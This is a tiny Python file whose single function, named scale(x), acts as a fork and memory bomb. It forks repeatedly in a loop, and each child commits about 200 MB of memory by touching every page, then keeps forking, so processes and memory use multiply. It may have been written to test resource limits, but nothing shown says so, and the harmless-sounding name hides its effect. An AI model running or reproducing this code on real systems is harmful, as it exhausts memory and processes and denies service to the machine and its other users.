import os
import time


def scale(x):
    for _ in range(6):
        if os.fork() == 0:
            held = bytearray(200 << 20)
            held[:: 4096] = b"x" * len(held[:: 4096])
            time.sleep(60)
    time.sleep(60)
